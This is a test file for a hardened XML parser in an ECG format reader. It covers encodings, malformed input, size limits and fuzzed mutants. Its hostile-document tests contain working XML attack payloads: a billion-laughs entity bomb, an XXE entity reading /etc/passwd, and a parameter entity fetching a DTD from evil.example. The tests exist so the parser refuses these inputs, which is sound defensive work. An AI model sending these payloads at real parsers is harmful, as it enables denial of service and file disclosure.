import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { EcgFormatError } from '../../../../src/main/ecg/formats/errors';
import {
  attribute,
  childElements,
  childPath,
  decodeXmlBytes,
  descendants,
  escapeXmlAttribute,
  escapeXmlText,
  parseXml,
  parseXmlText,
  sniffRootElement,
  textValue,
  xmlSafe,
  type XmlElement,
} from '../../../../src/main/ecg/formats/xml';
import { codeOf, utf8 } from '../../../support/ecg-format-helpers';

function utf16(text: string, littleEndian: boolean, withBom: boolean): Uint8Array {
  const body = withBom ? `\uFEFF${text}` : text;
  const bytes = new Uint8Array(body.length * 2);
  const view = new DataView(bytes.buffer);
  for (let i = 0; i < body.length; i++) view.setUint16(i * 2, body.charCodeAt(i), littleEndian);
  return bytes;
}

describe('parseXml: well-formed documents', () => {
  it('reads elements, attributes, text, CDATA, and skips comments and processing instructions', () => {
    const root = parseXmlText(
      '<?xml version="1.0"?>\n<!-- lead list --><?app hint?>' +
        '<hl7:ecg xmlns:hl7="urn:hl7-org:v3" rate=\'500\'><lead name="I">1 2 3</lead>' +
        '<note><![CDATA[<raw> & "text"]]></note><empty/></hl7:ecg>\n<!-- end -->',
    );
    expect(root.name).toBe('hl7:ecg');
    expect(root.localName).toBe('ecg');
    expect(attribute(root, 'rate')).toBe('500');
    expect(childElements(root).map((child) => child.localName)).toEqual(['lead', 'note', 'empty']);
    expect(textValue(childPath(root, 'lead'))).toBe('1 2 3');
    expect(textValue(childPath(root, 'note'))).toBe('<raw> & "text"');
    expect(childPath(root, 'empty')?.children).toEqual([]);
  });

  it('decodes the five predefined entities and decimal and hexadecimal character references', () => {
    const root = parseXmlText('<a v="&lt;&gt;&amp;&quot;&apos;">&#24352;&#x4E09; &lt;3</a>');
    expect(attribute(root, 'v')).toBe('<>&"\'');
    expect(textValue(root)).toBe('张三 <3');
  });

  it('normalises line ends and literal white space in attribute values, but keeps referenced ones', () => {
    const root = parseXmlText('<a v="x\ty\r\nz" w="&#9;&#10;&#13;">one\r\ntwo\rthree</a>');
    expect(attribute(root, 'v')).toBe('x y z');
    expect(attribute(root, 'w')).toBe('\t\n\r');
    expect(textValue(root)).toBe('one\ntwo\nthree');
  });

  it('finds attributes by local name whatever their prefix, and descendants in document order', () => {
    const root = parseXmlText('<r xmlns:xsi="x"><v xsi:type="PQ"/><g><v xsi:type="TS"/></g><v/></r>');
    expect(descendants(root, 'v').map((element) => attribute(element, 'type') ?? '-')).toEqual(['PQ', 'TS', '-']);
  });

  it('accepts a DOCTYPE with an external DTD (GE MUSE writes one) without loading it', () => {
    const root = parseXmlText('<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE RestingECG SYSTEM "restecg.dtd">\n<RestingECG/>');
    expect(root.localName).toBe('RestingECG');
  });

  it('accepts a DOCTYPE whose internal subset declares elements but no entities', () => {
    expect(parseXmlText('<!DOCTYPE a [<!ELEMENT a (#PCDATA)> <!-- x -->]><a>ok</a>').localName).toBe('a');
  });
});

describe('parseXml: encodings', () => {
  const document = '<?xml version="1.0" encoding="UTF-16"?><病人 姓名="张三">李四</病人>';

  it.each([
    ['UTF-16 LE with BOM (Philips 1.04)', utf16(document, true, true)],
    ['UTF-16 BE with BOM', utf16(document, false, true)],
    ['UTF-16 LE without BOM', utf16(document, true, false)],
    ['UTF-16 BE without BOM', utf16(document, false, false)],
  ])('%s', (_label, bytes) => {
    const root = parseXml(bytes);
    expect(root.name).toBe('病人');
    expect(attribute(root, '姓名')).toBe('张三');
    expect(textValue(root)).toBe('李四');
  });

  it('reads UTF-8 with and without a BOM and without an XML declaration', () => {
    expect(textValue(parseXml(utf8('\uFEFF<a>张三</a>')))).toBe('张三');
    expect(textValue(parseXml(utf8('<a>张三</a>')))).toBe('张三');
  });

  it('honours a declared single-byte or Chinese encoding', () => {
    const latin1 = Uint8Array.from([...utf8('<?xml version="1.0" encoding="ISO-8859-1"?><a>'), 0xe9, ...utf8('</a>')]);
    expect(textValue(parseXml(latin1))).toBe('é');
    // 张三 in GB2312 (EUC-CN): D5C5 C8FD.
    const gb = Uint8Array.from([...utf8('<?xml version="1.0" encoding="GB2312"?><a>'), 0xd5, 0xc5, 0xc8, 0xfd, ...utf8('</a>')]);
    expect(textValue(parseXml(gb))).toBe('张三');
  });

  it('reads an all-ASCII document the same whatever single-byte encoding it declares', () => {
    for (const encoding of ['ISO-8859-1', 'windows-1251', 'KOI8-R', 'us-ascii']) {
      expect(textValue(parseXml(utf8(`<?xml version="1.0" encoding="${encoding}"?><a>x &amp; ~\\</a>`)))).toBe('x & ~\\');
    }
    // One byte above 0x7F and the declared decoder reads the whole document (0xE9 is é in ISO-8859-1, И in KOI8-R).
    const e9 = (encoding: string) => Uint8Array.from([...utf8(`<?xml version="1.0" encoding="${encoding}"?><a>`), 0xe9, ...utf8('</a>')]);
    expect(textValue(parseXml(e9('ISO-8859-1')))).toBe('é');
    expect(textValue(parseXml(e9('KOI8-R')))).toBe('И');
  });

  it('decodes a stateful encoding by its own rules even when every byte is ASCII', () => {
    // ISO-2022-JP: ESC $ B switches to JIS X 0208, where 0x30 0x21 is 亜; the escape is no control character then.
    const jis = Uint8Array.from([...utf8('<?xml version="1.0" encoding="ISO-2022-JP"?><a>'), 0x1b, 0x24, 0x42, 0x30, 0x21, 0x1b, 0x28, 0x42, ...utf8('</a>')]);
    expect(textValue(parseXml(jis))).toBe('亜');
  });

  it('refuses bytes that are not valid in the document encoding, and encodings it does not know', () => {
    expect(codeOf(() => decodeXmlBytes(Uint8Array.from([...utf8('<a>'), 0xff, 0xfe, 0xfd, ...utf8('</a>')])))).toBe('CORRUPT');
    expect(codeOf(() => decodeXmlBytes(utf8('<?xml version="1.0" encoding="x-klingon"?><a/>')))).toBe('UNSUPPORTED_VARIANT');
  });
});

describe('parseXml: hostile and broken documents', () => {
  const billionLaughs =
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>';
  const externalEntity = '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>';
  const parameterEntity = '<!DOCTYPE a [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><a/>';

  it.each([
    ['entity expansion (billion laughs)', billionLaughs, 'UNSUPPORTED_VARIANT'],
    ['external entity (XXE)', externalEntity, 'UNSUPPORTED_VARIANT'],
    ['parameter entity', parameterEntity, 'UNSUPPORTED_VARIANT'],
    ['reference to an undeclared entity', '<a>&nbsp;</a>', 'CORRUPT'],
    ['bare ampersand', '<a>fish & chips</a>', 'CORRUPT'],
    ['character reference to NUL', '<a>&#0;</a>', 'CORRUPT'],
    ['raw control character', '<a>\u0001</a>', 'CORRUPT'],
    ['mismatched end tag', '<a><b></a></b>', 'CORRUPT'],
    ['two root elements', '<a/><b/>', 'CORRUPT'],
    ['text after the root', '<a/>tail', 'CORRUPT'],
    ['text before the root', 'head<a/>', 'CORRUPT'],
    ['repeated attribute', '<a x="1" x="2"/>', 'CORRUPT'],
    ['unquoted attribute', '<a x=1/>', 'CORRUPT'],
    ['attributes without white space between them', '<a x="1"y="2"/>', 'CORRUPT'],
    ['"<" inside an attribute value', '<a x="<"/>', 'CORRUPT'],
    ['"--" inside a comment', '<a><!-- a -- b --></a>', 'CORRUPT'],
    ['XML declaration not at the start', '<a><?xml version="1.0"?></a>', 'CORRUPT'],
    ['DOCTYPE inside the root', '<a><!DOCTYPE a></a>', 'CORRUPT'],
    ['invalid element name', '<1a/>', 'CORRUPT'],
    ['"]]>" in text', '<a>]]></a>', 'CORRUPT'],
    ['empty document', '', 'TRUNCATED'],
    ['document cut inside an element', '<a><b>text', 'TRUNCATED'],
    ['document cut inside a start tag', '<a x="1', 'TRUNCATED'],
    ['document cut inside a comment', '<a><!-- note', 'TRUNCATED'],
    ['document cut inside CDATA', '<a><![CDATA[x', 'TRUNCATED'],
  ])('refuses %s', (_label, document, code) => {
    expect(codeOf(() => parseXml(utf8(document)))).toBe(code);
  });

  it('refuses every forbidden control character, in ASCII documents (checked on the bytes) and in others (on the text)', () => {
    for (let byte = 0; byte < 0x20; byte++) {
      const allowed = byte === 0x09 || byte === 0x0a || byte === 0x0d;
      const ascii = Uint8Array.from([...utf8('<a x="1">'), byte, ...utf8('</a>')]);
      const nonAscii = Uint8Array.from([...utf8('<a x="张">'), byte, ...utf8('</a>')]);
      const latin1 = Uint8Array.from([...utf8('<?xml version="1.0" encoding="ISO-8859-1"?><a>'), byte, ...utf8('</a>')]);
      for (const document of [ascii, nonAscii, latin1]) {
        if (allowed) expect(parseXml(document).localName).toBe('a');
        else expect(codeOf(() => parseXml(document))).toBe('CORRUPT');
      }
    }
    expect(codeOf(() => parseXml(utf8('<a>\uFFFE</a>')))).toBe('CORRUPT');
  });

  it('refuses nesting deeper than the limit without overflowing the stack', () => {
    const depth = 100_000;
    const deep = '<a>'.repeat(depth) + '</a>'.repeat(depth);
    expect(codeOf(() => parseXml(utf8(deep)))).toBe('TOO_LARGE');
    expect(codeOf(() => parseXml(utf8('<a><a><a/></a></a>'), { maxDepth: 2 }))).toBe('TOO_LARGE');
    expect(parseXml(utf8('<a><a><a/></a></a>'), { maxDepth: 3 }).localName).toBe('a');
  });

  it('refuses documents over the size, element and attribute limits', () => {
    expect(codeOf(() => parseXml(utf8('<a>0123456789</a>'), { maxBytes: 10 }))).toBe('TOO_LARGE');
    expect(codeOf(() => parseXml(utf8('<a><b/><b/><b/></a>'), { maxElements: 3 }))).toBe('TOO_LARGE');
    expect(codeOf(() => parseXml(utf8('<a x="1" y="2" z="3"/>'), { maxAttributes: 2 }))).toBe('TOO_LARGE');
  });
});

describe('sniffRootElement', () => {
  it('names the first element after declaration, comments and DOCTYPE, in any supported encoding', () => {
    const head = '<?xml version="1.0"?>\n<!-- c --><!DOCTYPE RestingECG SYSTEM "restecg.dtd"><RestingECG><x/>';
    expect(sniffRootElement(utf8(head))).toBe('RestingECG');
    expect(sniffRootElement(utf16('<hl7:AnnotatedECG xmlns:hl7="urn:hl7-org:v3">', true, true))).toBe('AnnotatedECG');
  });

  it('returns undefined, never throws, for binary or cut input', () => {
    expect(sniffRootElement(Uint8Array.from([0, 1, 2, 3, 0xff]))).toBeUndefined();
    expect(sniffRootElement(utf8('<!-- never closed'))).toBeUndefined();
    expect(sniffRootElement(new Uint8Array(0))).toBeUndefined();
  });

  it('finds the root past the first kilobyte, and a name cut at any prefix boundary in full', () => {
    // The sniff decodes growing prefixes of the head; a name or a multi-byte character split by a prefix end must
    // give the same answer as decoding the whole head.
    for (const padding of [990, 1000, 1010, 1015, 1017, 1020, 1023, 5000, 8180]) {
      const comment = `<!--${'x'.repeat(padding)}-->`;
      expect(sniffRootElement(utf8(`${comment}<RestingECG/>`))).toBe('RestingECG');
      // With a BOM, UTF-8 is certain, so a three-byte character can straddle a prefix end.
      expect(sniffRootElement(utf8(`\uFEFF${comment}<心电图根元素/>`))).toBe('心电图根元素');
      expect(sniffRootElement(utf16(`${comment}<restingecgdata/>`, true, true))).toBe('restingecgdata');
    }
    const longName = `R${'e'.repeat(3000)}`;
    expect(sniffRootElement(utf8(`<?xml version="1.0"?><${longName} a="1">`))).toBe(longName);
  });
});

describe('escaping', () => {
  it('writes text and attribute values that read back unchanged, dropping what XML cannot hold', () => {
    const value = 'a<b>&"c"\t\n\r张\u0001';
    const root = parseXmlText(`<a v="${escapeXmlAttribute(value)}">${escapeXmlText(value)}</a>`);
    expect(attribute(root, 'v')).toBe('a<b>&"c"\t\n\r张');
    expect(root.children).toEqual(['a<b>&"c"\t\n\r张']);
    expect(xmlSafe('x\uD800y\uFFFEz')).toBe('xyz');
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Property tests

interface PlainElement {
  name: string;
  attributes: Record<string, string>;
  children: (PlainElement | string)[];
}

const nameArb = fc.constantFrom('a', 'b', 'series', 'hl7:sequence', 'x-y.z', '病人', '_n1');
const textArb = fc.string({ unit: 'grapheme', maxLength: 12 });
const specialTextArb = fc.oneof(textArb, fc.constantFrom('<', '>', '&', '"', "'", '\r\n', '\t', ']]', '&amp;', '张三'));

const elementArb: fc.Arbitrary<PlainElement> = fc.letrec<{ element: PlainElement }>((tie) => ({
  element: fc.record({
    name: nameArb,
    attributes: fc
      .uniqueArray(fc.tuple(fc.constantFrom('v', 'unit', 'xsi:type', 'code', '名'), specialTextArb), { maxLength: 3, selector: ([key]) => key })
      .map((entries) => Object.fromEntries(entries)),
    children: fc.array(fc.oneof({ depthSize: 'small', withCrossShrink: true }, specialTextArb, tie('element')), { maxLength: 4 }),
  }),
})).element;

function serialize(element: PlainElement): string {
  const attributes = Object.entries(element.attributes)
    .map(([key, value]) => ` ${key}="${escapeXmlAttribute(value)}"`)
    .join('');
  const children = element.children.map((child) => (typeof child === 'string' ? escapeXmlText(child) : serialize(child))).join('');
  return `<${element.name}${attributes}>${children}</${element.name}>`;
}

/** What the parser should give back: adjacent text merged, empty text gone, unrepresentable characters dropped. */
function expected(element: PlainElement): PlainElement {
  const children: (PlainElement | string)[] = [];
  for (const child of element.children) {
    if (typeof child !== 'string') children.push(expected(child));
    else if (xmlSafe(child) !== '') {
      const last = children[children.length - 1];
      if (typeof last === 'string') children[children.length - 1] = last + xmlSafe(child);
      else children.push(xmlSafe(child));
    }
  }
  const attributes = Object.fromEntries(Object.entries(element.attributes).map(([key, value]) => [key, xmlSafe(value)]));
  return { name: element.name, attributes, children };
}

function plain(element: XmlElement): PlainElement {
  const children: (PlainElement | string)[] = [];
  for (const child of element.children) {
    const last = children[children.length - 1];
    if (typeof child === 'string' && typeof last === 'string') children[children.length - 1] = last + child;
    else children.push(typeof child === 'string' ? child : plain(child));
  }
  return { name: element.name, attributes: Object.fromEntries(element.attributes), children };
}

const hostileSnippets = [
  '<!DOCTYPE a [<!ENTITY e "&e;&e;">]>',
  '&e;',
  '<![CDATA[',
  '<!--',
  '<a>'.repeat(300),
  '&#xD800;',
  '\u0000',
  '</',
  '"',
  '<?xml version="1.0"?>',
];

/** Inserts text after the n-th ">" (between markup, where comments, PIs and white space are allowed). */
function insertAfterTag(bytes: Uint8Array, n: number, snippet: string): Uint8Array {
  const ends: number[] = [];
  bytes.forEach((byte, index) => byte === 0x3e && ends.push(index + 1));
  if (ends.length === 0) return bytes;
  const at = ends[n % ends.length];
  return Uint8Array.from([...bytes.subarray(0, at), ...utf8(snippet), ...bytes.subarray(at)]);
}

describe('parseXml properties', () => {
  it('reads back every generated document exactly (10,000 documents)', () => {
    fc.assert(
      fc.property(elementArb, (element) => {
        const document = `<?xml version="1.0" encoding="UTF-8"?>\n${serialize(element)}`;
        expect(plain(parseXml(utf8(document)))).toEqual(expected(element));
      }),
      { numRuns: 10_000 },
    );
  });

  it('returns a tree or throws EcgFormatError for truncated, corrupted and hostile documents (10,000 mutants)', () => {
    const mutation = fc.oneof(
      // Harmless edits keep a share of mutants well-formed, so both outcomes are exercised.
      {
        weight: 3,
        arbitrary: fc.record({
          kind: fc.constant('afterTag' as const),
          at: fc.nat(),
          snippet: fc.constantFrom(' ', '\n', '<!-- note -->', '<?pi data?>', '<x/>'),
        }),
      },
      fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
      fc.record({ kind: fc.constant('flip' as const), at: fc.nat(), byte: fc.integer({ min: 0, max: 255 }) }),
      fc.record({ kind: fc.constant('insert' as const), at: fc.nat(), snippet: fc.constantFrom(...hostileSnippets) }),
    );
    fc.assert(
      fc.property(elementArb, fc.array(mutation, { minLength: 1, maxLength: 3 }), (element, mutations) => {
        let bytes: Uint8Array = utf8(serialize(element));
        for (const m of mutations) {
          const at = bytes.length === 0 ? 0 : m.at % (bytes.length + 1);
          if (m.kind === 'afterTag') bytes = insertAfterTag(bytes, m.at, m.snippet);
          else if (m.kind === 'truncate') bytes = bytes.subarray(0, at);
          else if (m.kind === 'flip' && at < bytes.length) bytes = Uint8Array.from(bytes, (b, i) => (i === at ? m.byte : b));
          else if (m.kind === 'insert') bytes = Uint8Array.from([...bytes.subarray(0, at), ...utf8(m.snippet), ...bytes.subarray(at)]);
        }
        try {
          const root = parseXml(bytes);
          expect(typeof root.localName).toBe('string');
        } catch (error) {
          expect(error).toBeInstanceOf(EcgFormatError);
        }
      }),
      { numRuns: 10_000 },
    );
  });
});
